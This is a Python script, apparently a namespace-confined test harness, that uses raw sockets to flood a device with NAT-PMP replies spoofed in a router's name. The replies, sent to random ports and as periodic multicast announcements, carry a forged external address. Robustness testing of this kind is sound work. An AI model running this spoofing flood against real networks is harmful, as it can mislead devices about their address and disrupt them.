# SPDX-License-Identifier: MIT
# Sends forged NAT-PMP answers in a router's name as fast as told, to ports drawn at random, and prints how
# many it sent. Runs in a namespace, as root; no part of the product.
# usage: flood.py SECONDS PACKETS_A_SECOND ROUTER DEVICE FORGED
import os
import random
import socket
import struct
import sys
import time


def packet(router, device, port, payload):
    """IPv4 and UDP around `payload`; the kernel fills in the IP checksum, and UDP needs none (RFC 768)."""
    udp = struct.pack(">HHHH", 5351, port, 8 + len(payload), 0) + payload
    head = struct.pack(
        ">BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(udp),
        0,
        0,
        64,
        17,
        0,
        socket.inet_aton(router),
        socket.inet_aton(device),
    )
    return head + udp


def main(seconds, rate, router, device, forged):
    answer = b"\0\x80\0\0\0\0\x10\0" + socket.inet_aton(forged)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to = (device, 0)
    packets = [packet(router, device, port, answer) for port in range(1024, 65536)]
    announcement = packet(router, "224.0.0.1", 5350, answer)
    sent, began = 0, time.monotonic()
    random.seed(os.getpid())
    pick, send = random.choices, sock.sendto
    while time.monotonic() - began < seconds:
        for one in pick(packets, k=500):
            send(one, to)
        sent += 500
        if sent % 5000 == 0:  # and makes the device ask
            send(announcement, ("224.0.0.1", 0))
        ahead = sent / rate - (time.monotonic() - began)
        if ahead > 0:
            time.sleep(ahead)
    print(sent)


main(float(sys.argv[1]), int(sys.argv[2]), *sys.argv[3:])
